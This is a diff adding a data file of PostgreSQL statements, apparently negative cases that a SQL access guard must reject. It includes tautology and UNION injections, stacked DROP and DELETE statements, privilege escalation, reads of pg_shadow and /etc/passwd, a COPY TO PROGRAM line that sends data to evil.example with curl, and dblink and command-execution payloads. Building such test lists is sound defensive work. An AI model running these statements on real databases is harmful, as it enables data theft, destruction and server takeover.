@@ -1,0 +1,249 @@
+## tables and columns that are not granted
+SELECT * FROM users
+SELECT id, email FROM users WHERE id = 3
+SELECT email FROM customers WHERE id = 3
+SELECT * FROM customers WHERE id = 3
+SELECT customers.* FROM customers WHERE id = 3
+SELECT c.* FROM customers c WHERE c.id = 3
+SELECT c.password FROM customers c WHERE c.id = 3
+SELECT c FROM customers c WHERE c.id = 3
+SELECT row_to_json(c) FROM customers c WHERE c.id = 3
+SELECT to_jsonb(customers) FROM customers WHERE id = 3
+SELECT (c).email FROM customers c WHERE c.id = 3
+SELECT o.id FROM orders o WHERE o.id = (SELECT max(u.id) FROM users u)
+SELECT o.id FROM orders o JOIN users u ON u.id = o.customer_id WHERE o.id = 3
+SELECT o.id FROM orders o, users u WHERE o.id = 3 AND u.id = o.customer_id
+SELECT o.id FROM orders o CROSS JOIN users WHERE o.id = 3
+SELECT o.id FROM orders o NATURAL JOIN users WHERE o.id = 3
+SELECT o.id FROM orders o LEFT JOIN LATERAL (SELECT password FROM users LIMIT 1) x ON true WHERE o.id = 3
+SELECT id FROM orders WHERE id = 3 AND EXISTS (SELECT 1 FROM users WHERE name = 'admin' AND password LIKE 'a%')
+SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE email LIKE '%@example.com')
+SELECT id FROM orders WHERE total = 3 ORDER BY (SELECT password FROM users LIMIT 1)
+SELECT CASE WHEN (SELECT substr(password, 1, 1) FROM users LIMIT 1) = 'a' THEN 1 ELSE 2 END FROM orders WHERE id = 3
+SELECT id FROM orders WHERE id = 3 GROUP BY id HAVING (SELECT count(*) FROM users) > 5
+WITH u AS (SELECT * FROM users) SELECT id FROM orders WHERE id = 3
+WITH u AS (SELECT password FROM users WHERE id = 1) SELECT * FROM u
+WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t
+SELECT usename, passwd FROM pg_shadow
+SELECT rolname, rolpassword FROM pg_authid
+SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'
+SELECT column_name FROM information_schema.columns WHERE table_name = 'users'
+SELECT datname FROM pg_database WHERE datname = 'x'
+SELECT query FROM pg_stat_activity WHERE state = 'active'
+SELECT * FROM pg_catalog.pg_user WHERE usename = 'postgres'
+SELECT setting FROM pg_settings WHERE name = 'data_directory'
+SELECT * FROM public.users WHERE id = 1
+SELECT * FROM "users" WHERE id = 1
+SELECT * FROM "public"."users" WHERE id = 1
+SELECT id FROM other.orders WHERE id = 1
+SELECT id FROM db.public.orders WHERE id = 1
+TABLE users
+TABLE orders
+## whole tables
+SELECT id, status FROM orders
+SELECT * FROM items
+SELECT * FROM items WHERE true
+SELECT * FROM items WHERE 1 = 1
+SELECT * FROM items WHERE 'a' = 'a'
+SELECT * FROM items WHERE 2 > 1
+SELECT * FROM items WHERE NOT false
+SELECT * FROM items WHERE id = id
+SELECT * FROM items WHERE id IS NOT NULL
+SELECT * FROM items WHERE id > 0
+SELECT * FROM items WHERE id >= 1
+SELECT * FROM items WHERE id <> -1
+SELECT * FROM items WHERE 0 < id
+SELECT * FROM items WHERE name LIKE '%'
+SELECT * FROM items WHERE name LIKE '%%'
+SELECT * FROM items WHERE name ILIKE '%'
+SELECT * FROM items WHERE name ~ '.*'
+SELECT * FROM items WHERE id BETWEEN id AND id
+SELECT * FROM items WHERE id IN (id)
+SELECT * FROM items WHERE id = 3 OR id <> 3 OR true
+SELECT * FROM items WHERE EXISTS (SELECT 1)
+SELECT * FROM items WHERE coalesce(1, 2) = 1
+SELECT * FROM items WHERE name <> ''
+SELECT * FROM items LIMIT 1000000
+SELECT * FROM items LIMIT ALL
+SELECT * FROM items LIMIT (SELECT count(*) FROM items)
+SELECT * FROM items FETCH FIRST 50000 ROWS ONLY
+SELECT * FROM items OFFSET 10
+SELECT * FROM (SELECT * FROM items) x
+SELECT * FROM (SELECT * FROM items) x WHERE 1 = 1
+WITH x AS (SELECT * FROM items) SELECT * FROM x
+SELECT i.id FROM items i JOIN orders o ON o.id = i.order_id
+SELECT i.id FROM items i, orders o WHERE o.id = i.order_id
+SELECT string_agg(name, ',') FROM items
+SELECT array_agg(name) FROM items
+SELECT json_agg(name) FROM items
+SELECT json_object_agg(id, name) FROM items
+SELECT id, row_number() OVER (ORDER BY id) FROM items
+SELECT DISTINCT name FROM items
+SELECT id FROM items UNION ALL SELECT id FROM products
+(SELECT * FROM items)
+## always true
+SELECT id FROM orders WHERE id = 3 OR 1 = 1
+SELECT id FROM orders WHERE id = 3 OR true
+SELECT id FROM orders WHERE id = 3 OR 'x' = 'x'
+SELECT id FROM orders WHERE id = 3 OR id = id
+SELECT id FROM orders WHERE (id = 3 OR 2 > 1) AND status = 'open'
+SELECT id FROM orders WHERE status = 'open' AND (id = 3 OR NOT false) LIMIT 10
+SELECT id FROM orders WHERE note = '' OR ''='' LIMIT 10
+SELECT id FROM orders WHERE id = 3 OR 1 IN (1) LIMIT 10
+SELECT id FROM orders WHERE id = 3 OR 5 BETWEEN 1 AND 9 LIMIT 10
+SELECT id FROM orders WHERE id = 3 OR length('abc') = 3 LIMIT 10
+## UNION
+SELECT id FROM orders WHERE id = 3 UNION SELECT password FROM users
+SELECT id FROM orders WHERE id = 3 UNION ALL SELECT NULL
+SELECT id, status FROM orders WHERE id = 3 UNION SELECT 1, 'x'
+SELECT id FROM orders WHERE id = 3 UNION SELECT version()
+SELECT id FROM orders WHERE id = 3 UNION (SELECT usesysid FROM pg_user)
+SELECT id FROM orders WHERE id = 3 EXCEPT SELECT id FROM users
+SELECT id FROM orders WHERE id = 3 INTERSECT SELECT id FROM users
+## comments
+SELECT id FROM orders WHERE id = 3 -- AND status = 'open'
+SELECT id FROM orders WHERE id = 3 --
+SELECT id FROM orders WHERE id = 3 /* x */ AND status = 'open'
+SELECT/**/id/**/FROM/**/orders/**/WHERE/**/id=3
+SELECT id FROM orders WHERE id = 3 UN/**/ION SELECT 1
+SELECT id FROM orders WHERE id = 3 /*
+SELECT id FROM orders /* /* nested */ */ WHERE id = 3
+SELECT id FROM orders WHERE note = 'admin'--' AND status = 'open'
+## stacked
+SELECT 1; SELECT 2
+SELECT id FROM orders WHERE id = 3; DROP TABLE orders
+SELECT id FROM orders WHERE id = 3; DELETE FROM orders
+SELECT id FROM orders WHERE id = 3;;SELECT 1
+; DROP TABLE users; SELECT 1
+UPDATE orders SET status = 'x' WHERE id = 3; COMMIT
+SELECT id FROM orders WHERE id = 3; SELECT pg_sleep(10)
+SELECT id FROM orders WHERE id = 3; COPY users TO '/tmp/u'
+## writes without a WHERE that chooses
+DELETE FROM orders
+DELETE FROM orders WHERE true
+DELETE FROM orders WHERE 1 = 1
+DELETE FROM orders WHERE id > 0
+DELETE FROM orders WHERE id IS NOT NULL
+DELETE FROM orders WHERE id = 3 OR 1 = 1
+DELETE FROM orders USING customers
+UPDATE orders SET status = 'paid'
+UPDATE orders SET status = 'paid' WHERE 1 = 1
+UPDATE orders SET total = 0 WHERE id = id
+UPDATE orders SET total = 0 WHERE note LIKE '%'
+UPDATE customers SET password = 'x' WHERE id = 3
+UPDATE users SET role = 'admin' WHERE id = 3
+INSERT INTO users (name, role) VALUES ('x', 'admin')
+INSERT INTO customers (id, name, email) VALUES (1, 'x', 'y')
+INSERT INTO customers VALUES (1, 'x', 'y', 'z')
+INSERT INTO orders (id, note) SELECT id, password FROM users
+INSERT INTO events SELECT * FROM items
+UPDATE orders SET note = (SELECT password FROM users LIMIT 1) WHERE id = 3
+DELETE FROM orders WHERE id = 3 RETURNING *
+INSERT INTO orders (id) VALUES (1) RETURNING (SELECT password FROM users LIMIT 1)
+INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET note = (SELECT password FROM users LIMIT 1)
+WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d
+WITH d AS (DELETE FROM users WHERE id = 3 RETURNING id) SELECT id FROM d
+MERGE INTO orders o USING users u ON o.id = u.id WHEN MATCHED THEN DELETE
+## definitions and sessions
+DROP TABLE orders
+DROP TABLE IF EXISTS orders CASCADE
+DROP SCHEMA public CASCADE
+DROP DATABASE shop
+TRUNCATE orders
+TRUNCATE TABLE orders RESTART IDENTITY CASCADE
+ALTER TABLE orders ADD COLUMN x int
+ALTER USER clerk WITH SUPERUSER
+ALTER ROLE clerk PASSWORD 'x'
+CREATE TABLE x (id int)
+CREATE TABLE x AS SELECT * FROM users
+CREATE USER mallory WITH PASSWORD 'x'
+CREATE ROLE mallory SUPERUSER
+CREATE EXTENSION dblink
+CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql
+CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE c
+CREATE TRIGGER t AFTER INSERT ON orders EXECUTE FUNCTION f()
+CREATE VIEW v AS SELECT * FROM users
+GRANT ALL ON users TO clerk
+REVOKE ALL ON orders FROM clerk
+SET ROLE postgres
+SET SESSION AUTHORIZATION postgres
+SET search_path = 'mallory'
+RESET ALL
+BEGIN
+COMMIT
+ROLLBACK
+LOCK TABLE orders
+VACUUM orders
+ANALYZE orders
+REINDEX TABLE orders
+LISTEN x
+NOTIFY x, 'y'
+PREPARE p AS SELECT * FROM users
+EXECUTE p
+DEALLOCATE ALL
+DO $$ BEGIN PERFORM pg_sleep(10); END $$
+CALL p()
+EXPLAIN ANALYZE DELETE FROM orders
+SHOW ALL
+DECLARE c CURSOR FOR SELECT * FROM users
+SELECT id INTO stolen FROM orders WHERE id = 3
+SELECT * INTO TEMP x FROM items WHERE id = 3
+SELECT id FROM orders WHERE id = 3 FOR UPDATE
+## files, network, server, waiting
+COPY users TO '/tmp/users.csv'
+COPY (SELECT * FROM users) TO STDOUT
+COPY orders FROM '/etc/passwd'
+COPY orders TO PROGRAM 'curl -d @- http://evil.example'
+COPY orders FROM PROGRAM 'id'
+SELECT pg_read_file('/etc/passwd')
+SELECT pg_read_binary_file('/etc/passwd')
+SELECT pg_ls_dir('/')
+SELECT lo_import('/etc/passwd')
+SELECT lo_export(1, '/tmp/x')
+SELECT lo_get(1)
+SELECT dblink('host=evil.example', 'select 1')
+SELECT * FROM dblink('host=evil.example', 'select 1') AS t(a int)
+SELECT pg_sleep(10)
+SELECT pg_sleep(10) FROM orders WHERE id = 3
+SELECT id FROM orders WHERE id = 3 AND 1 = (SELECT 1 FROM pg_sleep(5))
+SELECT CASE WHEN total > 3 THEN pg_sleep(5) END FROM orders WHERE id = 3
+SELECT pg_sleep_for('5 minutes')
+SELECT version()
+SELECT current_user
+SELECT session_user
+SELECT current_database()
+SELECT current_setting('data_directory')
+SELECT set_config('log_statement', 'none', false)
+SELECT inet_server_addr()
+SELECT pg_terminate_backend(1)
+SELECT pg_cancel_backend(1)
+SELECT pg_reload_conf()
+SELECT query_to_xml('select * from users', true, true, '')
+SELECT table_to_xml('users', true, true, '')
+SELECT database_to_xml(true, true, '')
+SELECT xpath('/x', '<x/>')
+SELECT has_table_privilege('users', 'select')
+SELECT 'users'::regclass
+SELECT 'users'::regclass::oid
+SELECT pg_get_functiondef(1)
+SELECT nextval('orders_id_seq')
+SELECT txid_current()
+SELECT * FROM generate_series(1, 100000000)
+SELECT * FROM pg_ls_dir('.')
+SELECT * FROM pg_stat_file('/etc/passwd')
+SELECT chr(65) || chr(66)
+SELECT id FROM orders WHERE note = U&'\0061dmin'
+SELECT id FROM orders WHERE note = convert_from(decode('YWRtaW4=', 'base64'), 'utf8')
+## what cannot be read, or is read differently
+SELECT id FROM orders WHERE id =
+SELECT id FROM orders WHERE note = 'x
+SELECT id FROM orders WHERE note = "x
+SELECT id FROM
+SELEC id FROM orders WHERE id = 3
+export the user table
+' OR '1'='1
+SELECT id FROM ｏrders WHERE id = 3
+SELECT id FROM orders​ WHERE id = 3
+SELECT id FROM orders WHERE id = 3 \gexec
+\copy users to '/tmp/x'
+\! id
